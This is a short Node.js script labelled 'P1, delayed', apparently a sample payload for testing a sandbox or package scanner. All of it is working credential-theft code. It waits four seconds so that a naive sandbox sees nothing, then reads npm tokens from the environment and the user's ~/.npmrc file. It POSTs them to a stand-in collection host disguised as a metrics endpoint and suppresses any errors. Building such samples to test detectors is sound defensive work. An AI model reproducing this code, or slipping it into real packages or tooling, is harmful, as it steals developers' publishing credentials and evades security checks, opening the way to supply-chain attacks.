// P1, delayed: do nothing for a few seconds (a naive sandbox that watches only the first moment
// sees a quiet script), then read the token from the environment and ~/.npmrc and POST it.
const fs = require('fs');
const http = require('http');
const os = require('os');

setTimeout(() => {
  let rc = '';
  try { rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch {}
  const body = JSON.stringify({ auth: process.env.NODE_AUTH_TOKEN || process.env.NPM_TOKEN || '', rc });
  const req = http.request({ host: 'metrics.collect.test', path: '/v1/t', method: 'POST', headers: { 'content-type': 'application/json' }, timeout: 3000 });
  req.on('error', () => {});
  req.on('timeout', () => req.destroy());
  req.end(body);
}, 4000);
